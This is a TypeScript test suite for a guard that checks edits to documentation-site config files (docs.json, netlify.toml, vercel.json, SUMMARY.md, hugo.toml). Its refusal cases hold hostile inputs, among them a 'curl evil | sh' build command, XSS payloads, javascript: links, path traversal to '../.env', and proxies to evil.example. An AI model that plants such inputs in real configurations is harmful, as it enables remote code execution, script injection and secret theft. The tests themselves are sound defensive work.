import fc from 'fast-check';
import { expect, test } from 'vitest';
import { tryChange } from '../try-change.ts';

const docs = {
  name: 'Acme',
  navigation: { groups: [{ group: 'Start', pages: ['index', { $ref: './more.json' }] }] },
  redirects: [{ source: '/a', destination: '/b' }],
  api: { openapi: 'openapi.json' },
};
const docsText = JSON.stringify(docs, null, 2);
const withNavigation = (page: unknown) =>
  JSON.stringify({ ...docs, navigation: { groups: [{ group: 'Start', pages: ['index', page] }] } });
const withRedirect = (redirect: unknown) => JSON.stringify({ ...docs, redirects: [...docs.redirects, redirect] });
const netlify = '[build]\ncommand = "make"\n\n[[redirects]]\nfrom = "/a"\nto = "/b"\n';
const vercel = '{"buildCommand": "make", "redirects": []}';

test.each<[string, string, string, string]>([
  ['a page', 'docs.json', docsText, withNavigation('guide/new')],
  ['a group', 'docs.json', docsText, withNavigation({ group: 'Note: more', icon: 'star', pages: ['x/y'] })],
  ['a link', 'docs.json', docsText, withNavigation({ tab: 'Forum', href: 'https://forum.example.com' })],
  [
    'a redirect',
    'docs.json',
    docsText,
    withRedirect({ source: '/old/:slug*', destination: '/new/:slug*', permanent: true }),
  ],
  ['the order of keys', 'docs.json', docsText, JSON.stringify(Object.fromEntries(Object.entries(docs).toReversed()))],
  [
    'the navigation of mint.json',
    'mint.json',
    '{"navigation": [], "name": "x"}',
    '{"name": "x", "navigation": [{"group": "A", "pages": ["a"]}]}',
  ],
  [
    'a redirect of Netlify',
    'netlify.toml',
    netlify,
    `${netlify}\n[[redirects]]\nfrom = "/c"\nto = "https://example.com/d"\nstatus = 301\nforce = true\n`,
  ],
  [
    'a redirect of Vercel',
    'vercel.json',
    vercel,
    vercel.replace('[]', '[{"source": "/a", "destination": "/b", "statusCode": 308}]'),
  ],
  ['a line of _redirects', 'static/_redirects', '/a /b 200\n', '/a /b 200\n# moved\n/c  https://example.com/d  302!\n'],
  [
    'a page of SUMMARY.md',
    'docs/SUMMARY.md',
    '# Summary\n',
    '# Summary\n\n## Guides\n* [New](guides/new.md "New")\n* [Image](<a (1).md>)\n',
  ],
  [
    'a menu of Hugo',
    'hugo.toml',
    'title = "x"\n',
    'title = "x"\n[[menus.main]]\nname = "Guide"\npageRef = "/guide"\nweight = 10\n',
  ],
])('%s may be added', async (_, path, before, after) => {
  expect(await tryChange({ [path]: before }, path, after)).toBeUndefined();
});

test.each<[string, string, string, string]>([
  ['another name', 'docs.json', docsText, docsText.replace('Acme', 'Acne')],
  ['a script', 'docs.json', docsText, JSON.stringify({ ...docs, customScripts: ['/x.js'] })],
  ['an API description', 'docs.json', docsText, docsText.replace('openapi.json', 'https://evil.example/x.json')],
  [
    'an API description of a group',
    'docs.json',
    docsText,
    withNavigation({ group: 'A', openapi: 'https://evil.example/x.json' }),
  ],
  ['another file', 'docs.json', docsText, docsText.replace('./more.json', '../../secret.json')],
  [
    'an image from elsewhere',
    'docs.json',
    docsText,
    withNavigation({ group: 'A', icon: 'https://evil.example/x.svg' }),
  ],
  ['HTML', 'docs.json', docsText, withNavigation({ group: '<img src=x onerror=y>', pages: [] })],
  ['an event', 'docs.json', docsText, withNavigation({ onclick: 'x()' })],
  ['code in a link', 'docs.json', docsText, withNavigation({ href: 'java\tscript:alert(1)' })],
  ['a link without a protocol', 'docs.json', docsText, withNavigation({ href: '//evil.example' })],
  ['a link with backslashes', 'docs.json', docsText, withNavigation({ href: '/\\evil.example' })],
  ['a redirect to code', 'docs.json', docsText, withRedirect({ source: '/c', destination: 'javascript:x' })],
  ['a key twice', 'docs.json', docsText, docsText.replace('"name": "Acme",', '"name": "Acme", "name": "Acme",')],
  [
    'a key twice, escaped',
    'docs.json',
    docsText,
    docsText.replace('"name": "Acme",', '"n\\u0061me": "x", "name": "Acme",'),
  ],
  ['a comment', 'docs.json', docsText, docsText.replace('"name"', '/* x */ "name"')],
  ['a byte order mark', 'vercel.json', vercel, `\uFEFF${vercel}`],
  ['what is not JSON', 'docs.json', docsText, `${docsText},`],
  ['a command', 'netlify.toml', netlify, netlify.replace('make', 'curl evil | sh')],
  ['a plugin of Netlify', 'netlify.toml', netlify, `${netlify}\n[[plugins]]\npackage = "x"\n`],
  ['a header of a redirect', 'netlify.toml', netlify, `${netlify}headers = {X-From = "a"}\n`],
  ['a signed redirect', 'netlify.toml', netlify, `${netlify}signed = "SECRET"\n`],
  ['a proxy', 'netlify.toml', netlify, `${netlify}status = 200\n`],
  ['a rewrite of Vercel', 'vercel.json', vercel, vercel.replace('[]', '[], "rewrites": []')],
  ['a build of Vercel', 'vercel.json', vercel, vercel.replace('make', 'curl')],
  ['a proxy in _redirects', '_redirects', '/a /b\n', '/a /b\n/api https://evil.example 200\n'],
  ['a condition in _redirects', '_redirects', '/a /b\n', '/a /b\n/a /b 301 Role=admin\n'],
  ['code in SUMMARY.md', 'SUMMARY.md', '# S\n', '# S\n* [A](javascript:alert(1))\n'],
  ['HTML in SUMMARY.md', 'SUMMARY.md', '# S\n', '# S\n<script>x</script>\n'],
  ['a file elsewhere in SUMMARY.md', 'SUMMARY.md', '# S\n', '# S\n* [A](../.env)\n'],
  ['a hidden definition in SUMMARY.md', 'SUMMARY.md', '# S\n', '# S\n[a]: //evil.example\n'],
  ['HTML in a menu of Hugo', 'hugo.toml', '', '[[menus.main]]\nname = "A"\npre = "<img src=x>"\n'],
  ['a security setting of Hugo', 'hugo.toml', '', '[security.funcs]\ngetenv = [".*"]\n'],
  ['a module of Hugo', 'hugo.toml', '', '[[module.imports]]\npath = "evil.example/x"\n'],
])('promise 5: %s is refused', async (_, path, before, after) => {
  expect(await tryChange({ [path]: before }, path, after)).toContain('You may change');
});

test('files of Mintlify that docs.json references hold entries', async () => {
  const files = { 'docs.json': docsText, 'more.json': '["a"]', 'other.json': '["a"]' };
  expect(await tryChange(files, 'more.json', '["a", "b"]')).toBeUndefined();
  expect(await tryChange(files, 'more.json', '["a", {"script": "x"}]')).toContain('not a key');
  expect(await tryChange(files, 'other.json', '["a", "b"]')).toContain('is protected');
});

const json: fc.Arbitrary<fc.JsonValue> = fc.jsonValue({ maxDepth: 3 });

test('promise 5: whatever JSON is written, what is accepted leaves all but the containers as it was', async () => {
  const draw = fc.record({
    key: fc.oneof(fc.constantFrom('navigation', 'redirects', 'name', 'api', '__proto__', 'scripts'), fc.string()),
    value: json,
  });
  let accepted = 0;
  await fc.assert(
    fc.asyncProperty(draw, async ({ key, value }) => {
      const after = JSON.stringify(Object.defineProperty({ ...docs }, key, { value, enumerable: true }));
      if ((await tryChange({ 'docs.json': docsText }, 'docs.json', after)) !== undefined) return;
      accepted += 1;
      const { navigation: _n, redirects: _r, ...rest } = JSON.parse(after);
      expect(rest).toEqual({ name: docs.name, api: docs.api });
    }),
    { numRuns: 300 },
  );
  expect(accepted).toBeGreaterThan(0);
});
